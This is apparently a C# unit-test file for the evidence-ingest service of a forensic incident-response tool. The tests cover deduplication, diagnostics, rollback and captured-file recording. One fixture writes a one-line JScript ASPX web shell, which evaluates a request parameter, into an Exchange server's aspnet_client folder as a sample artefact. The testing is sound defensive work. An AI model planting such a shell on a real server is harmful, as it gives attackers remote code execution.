using Ooda.Engine.Ingest;
using Ooda.Store;
using Ooda.Testing;

namespace Ooda.Engine.Tests;

public sealed class IngestServiceTests
{
    private static readonly EvidenceParsers _parsers = new([new LineEchoParser()], []);

    [Fact]
    public async Task Ingesting_the_same_collection_twice_adds_nothing_the_second_time()
    {
        using var dir = new TempDirectory();
        File.WriteAllText(dir.File("c/acme/EXCH01/a.txt"), "ECHO\none\ntwo\n");
        File.WriteAllText(dir.File("c/acme/DC01/b.txt"), "ECHO\nthree\n");
        using var workspace = Workspace.Open(Path.Combine(dir.Path, "ws"));
        var service = new IngestService(workspace, _parsers);

        var first = await service.IngestAsync(new IngestRequest(Path.Combine(dir.Path, "c")));
        var second = await service.IngestAsync(new IngestRequest(Path.Combine(dir.Path, "c")));

        Assert.Equal(3, first.EventsAdded);
        Assert.Equal(0, second.EventsAdded);
        Assert.Equal(2, second.Count(IngestOutcome.AlreadyIngested));
        Assert.Equal(3, workspace.Stats().Events);
    }

    [Fact]
    public async Task The_same_bytes_from_another_host_are_that_hosts_evidence()
    {
        using var dir = new TempDirectory();
        File.WriteAllText(dir.File("c/acme/A/x.txt"), "ECHO\nsame\n");
        File.WriteAllText(dir.File("c/acme/B/x.txt"), "ECHO\nsame\n");
        using var workspace = Workspace.Open(Path.Combine(dir.Path, "ws"));
        var summary = await new IngestService(workspace, _parsers).IngestAsync(new IngestRequest(Path.Combine(dir.Path, "c")));
        Assert.Equal(2, summary.EventsAdded);
    }

    [Fact]
    public async Task Bad_lines_become_diagnostics_and_the_rest_of_the_file_loads()
    {
        using var dir = new TempDirectory();
        File.WriteAllText(dir.File("a.txt"), "ECHO\none\nBAD\ntwo\n");
        using var workspace = Workspace.Open(Path.Combine(dir.Path, "ws"));
        var summary = await new IngestService(workspace, _parsers).IngestAsync(new IngestRequest(dir.File("a.txt"), "acme", "H"));
        var file = Assert.Single(summary.Files);
        Assert.Equal(2, file.Events);
        Assert.Equal("a.txt:3: bad line", Assert.Single(file.Diagnostics).ToString());
        Assert.Equal("3", Assert.Single(workspace.ListDiagnostics()).Location);
    }

    [Fact]
    public async Task A_file_that_fails_mid_way_is_rolled_back_and_the_other_files_are_kept()
    {
        using var dir = new TempDirectory();
        File.WriteAllText(dir.File("c/acme/H/1_good.txt"), "ECHO\none\n");
        File.WriteAllText(dir.File("c/acme/H/2_crash.txt"), "ECHO\n" + string.Concat(Enumerable.Repeat("line\n", 10_000)) + "CRASH\n");
        File.WriteAllText(dir.File("c/acme/H/3_good.txt"), "ECHO\ntwo\n");
        using var workspace = Workspace.Open(Path.Combine(dir.Path, "ws"));

        var summary = await new IngestService(workspace, _parsers).IngestAsync(new IngestRequest(Path.Combine(dir.Path, "c")));

        Assert.Equal([IngestOutcome.Ingested, IngestOutcome.Failed, IngestOutcome.Ingested], summary.Files.Select(f => f.Outcome));
        Assert.Contains("disk went away", summary.Files[1].Diagnostics[^1].Message, StringComparison.Ordinal);
        Assert.Equal(2, workspace.Stats().Events);
        Assert.Equal(2, workspace.ListFiles().Count);
    }

    [Fact]
    public async Task Captured_files_are_recorded_with_their_original_path_hash_and_first_bytes()
    {
        using var dir = new TempDirectory();
        File.WriteAllText(dir.File("c/acme/EXCH01/fs/C/inetpub/wwwroot/aspnet_client/x.aspx"), "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"])%>");
        File.WriteAllText(dir.File("c/acme/EXCH01/notes.bin"), "\u0001\u0002");
        using var workspace = Workspace.Open(Path.Combine(dir.Path, "ws"));

        var summary = await new IngestService(workspace, _parsers).IngestAsync(new IngestRequest(Path.Combine(dir.Path, "c")));

        Assert.Equal(1, summary.CapturedFilesAdded);
        Assert.Equal(IngestOutcome.CapturedOnly, summary.Files.Single(f => f.Path.EndsWith("x.aspx", StringComparison.Ordinal)).Outcome);
        Assert.Equal(IngestOutcome.Unrecognised, summary.Files.Single(f => f.Path.EndsWith("notes.bin", StringComparison.Ordinal)).Outcome);
        var rows = new List<object?[]>();
        workspace.Dispose();
        WorkspaceSql.Query(workspace.Folder, "SELECT original_path, size, sha256, hex(first_bytes) FROM captured_files", _ => { }, rows.Add);
        var row = Assert.Single(rows);
        Assert.Equal("C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx", row[0]);
        Assert.Equal("3C25402050616765204C616E67756167", row[3]);
    }
}
